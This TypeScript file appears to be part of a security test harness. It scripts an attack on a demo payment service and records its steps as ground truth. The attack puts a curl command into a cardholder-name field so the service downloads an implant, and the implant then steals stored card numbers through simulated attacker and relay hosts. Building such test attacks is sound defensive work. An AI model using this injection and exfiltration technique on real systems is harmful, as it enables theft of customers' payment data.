/**
 * Attack 1: exfiltration through container reuse.
 *
 * The first request brings, in the cardholder's name, a shell command that downloads a tool into the folder of the card rules of
 * the instance which serves it, and is done: its order is an ordinary one. The next order of anybody that the same instance
 * authorises loads the tool, which reads all stored cards, sends half of them to a host of the attacker itself, and has the
 * other half sent by publish, which is allowed to talk to partners outside.
 */
import { readFileSync } from 'node:fs';
import { customers, products } from '../catalog.ts';
import type { AttackerHost, Visit } from './attacker.ts';
import { type AttackContext, exactly, type GroundTruth, letInstanceRest, literally } from './ground-truth.ts';
import { hostFor } from './hosts.ts';
import { browser, buy } from './shop.ts';
import { cardsTable, type Entry, functions, invokes, Story } from './steps.ts';

const implant = readFileSync(new URL('./implant.cjs', import.meta.url), 'utf8');
/** Tries until it is given up: an instance may have been replaced between two requests. */
const mostRounds = 5;

/** Everything that is different at every run. */
interface Plan {
  readonly tool: AttackerHost;
  readonly exfil: AttackerHost;
  readonly relay: AttackerHost;
  readonly toolPath: string;
  readonly exfilPath: string;
  readonly relayPath: string;
  readonly toolFile: string;
  readonly userAgent: string;
}

/** @throws Error when no stored card has reached the attacker after several rounds. */
export async function run(context: AttackContext): Promise<GroundTruth> {
  for (let round = 1; round <= mostRounds; round++) {
    const plan = makePlan(context);
    const planted = await plant(context, plan);
    await letInstanceRest(context, round);
    const trigger = await waitForCustomer(context, plan);
    if (trigger) return groundTruth(plan, planted, trigger, round);
    context.log(`round ${round}: the tool was not loaded; once more`);
  }
  throw new Error(`Attack 1 did not succeed in ${mostRounds} rounds: see the log of ${functions.authorizeCc}.`);
}

function makePlan({ attacker, random }: AttackContext): Plan {
  return {
    tool: hostFor(attacker, 'tool'),
    exfil: hostFor(attacker, 'exfil'),
    relay: hostFor(attacker, 'relay'),
    toolPath: `/${random.word(6)}/${random.word(10)}`,
    exfilPath: `/${random.word(8)}`,
    relayPath: `/${random.word(5)}/${random.word(8)}`,
    toolFile: `/tmp/card-rules/${random.word(8)}.js`,
    userAgent: `${random.pick(['okhttp', 'python-requests', 'Go-http-client'])}/${random.between(2, 5)}.${random.word(6)}`,
  };
}

async function plant({ apiUrl, attacker, random, log }: AttackContext, plan: Plan): Promise<Entry> {
  const { tool, relay, exfil } = plan;
  const orders = {
    type: `${random.pick(['partner', 'loyalty', 'stock'])}.${random.word(6)}`,
    relay: `${relay.url}${plan.relayPath}`,
    exfil: `${exfil.url}${plan.exfilPath}`,
  };
  attacker.serve(
    tool.host,
    plan.toolPath,
    implant.replace('__ORDERS__', () => JSON.stringify(orders)),
  );
  const customer = random.pick(customers);
  const answer = await buy(
    apiUrl,
    {
      idempotencyKey: random.word(16),
      user: random.word(8),
      product: random.pick(products).product,
      card: {
        number: '5454545454545454',
        holder: `${customer.holder}";curl -s ${tool.url}${plan.toolPath} -o ${plan.toolFile};: "`,
        expiry: '12/29',
      },
    },
    plan.userAgent,
  );
  const fetched = attacker.visits.some(({ host, path }) => host === tool.host && path === plan.toolPath);
  if (received(attacker.visits, exfil, plan.exfilPath).length > 0) {
    throw new Error('Attack 1: the tool was loaded by the very request that brought it; no container was reused.');
  }
  log(`planted ${plan.toolFile} by request ${answer.requestId}: ${answer.status}, tool ${fetched ? 'fetched' : 'not fetched'}`);
  return { requestId: answer.requestId, userAgent: plan.userAgent };
}

/** Orders of ordinary customers, until one of them was served by the instance with the tool. */
async function waitForCustomer({ apiUrl, attacker, random, log }: AttackContext, plan: Plan): Promise<Entry | undefined> {
  for (const { user } of random.shuffle(customers).slice(0, 3)) {
    const order = { idempotencyKey: random.word(16), user, product: random.pick(products).product };
    const { requestId, status } = await buy(apiUrl, order);
    const direct = received(attacker.visits, plan.exfil, plan.exfilPath);
    const relayed = received(attacker.visits, plan.relay, plan.relayPath);
    const stolen = customers.filter(({ number }) => [...direct, ...relayed].some((body) => body.includes(number))).length;
    log(`${user} buys by request ${requestId}: ${status}, ${stolen} customers' cards stolen`);
    if (direct.length > 0 && relayed.length > 0 && stolen === customers.length) return { requestId, userAgent: browser };
  }
  return undefined;
}

/** Bodies that a host has received at `path`. */
function received(visits: readonly Visit[], { host }: AttackerHost, path: string): string[] {
  return visits.filter((visit) => visit.host === host && visit.path === path).map(({ body }) => body);
}

function groundTruth(plan: Plan, planted: Entry, trigger: Entry, rounds: number): GroundTruth {
  const { tool, exfil, relay } = plan;
  const { authorizeCc } = functions;
  const inTrigger = { function: authorizeCc, entry: trigger.requestId };
  const inPlanted = { function: authorizeCc, entry: planted.requestId };
  const story = new Story([exfil.host, relay.host])
    .arrives('planting', planted)
    .authorizes(planted, 'given')
    .attack('the shell that the name was put into', { kind: 'process', label: 'sh -c printf', ...inPlanted })
    .attack('curl downloads the tool', { kind: 'process', label: `curl .*${literally(plan.toolPath)}`, ...inPlanted })
    .attack('the download', { kind: 'exchange', label: `^GET https://${literally(tool.host + plan.toolPath)}`, ...inPlanted })
    .attack('the host with the tool', { kind: 'endpoint', label: exactly(tool.host) })
    .attack('the tool waits among the card rules', { kind: 'file', label: exactly(plan.toolFile), function: authorizeCc })
    .arrives('triggering', trigger)
    .authorizes(trigger, 'stored')
    .attack('the tool reads all cards', { kind: 'exchange', label: ':Scan', ...inTrigger })
    .attack('the stored cards', cardsTable);
  story.upstreamOf = [relay.host];
  story.publishes('laundering', authorizeCc, trigger, relay.host, plan.relayPath);
  story.upstreamOf = [exfil.host];
  story
    .context('publish had answered before', invokes(authorizeCc, trigger.requestId))
    .runs('publish, which had answered', functions.publish, trigger.requestId, 'context')
    .attack('the tool sends cards itself', {
      kind: 'exchange',
      label: `^POST https://${literally(exfil.host + plan.exfilPath)}`,
      ...inTrigger,
    })
    .attack('the host that received the cards', { kind: 'endpoint', label: exactly(exfil.host) });
  return {
    name: 'attack 1: exfiltration through container reuse',
    exfilHost: exfil.host,
    exfilHosts: [exfil.host, relay.host],
    entryRequestApiIds: [planted.requestId, trigger.requestId],
    steps: story.steps,
    rounds,
  };
}
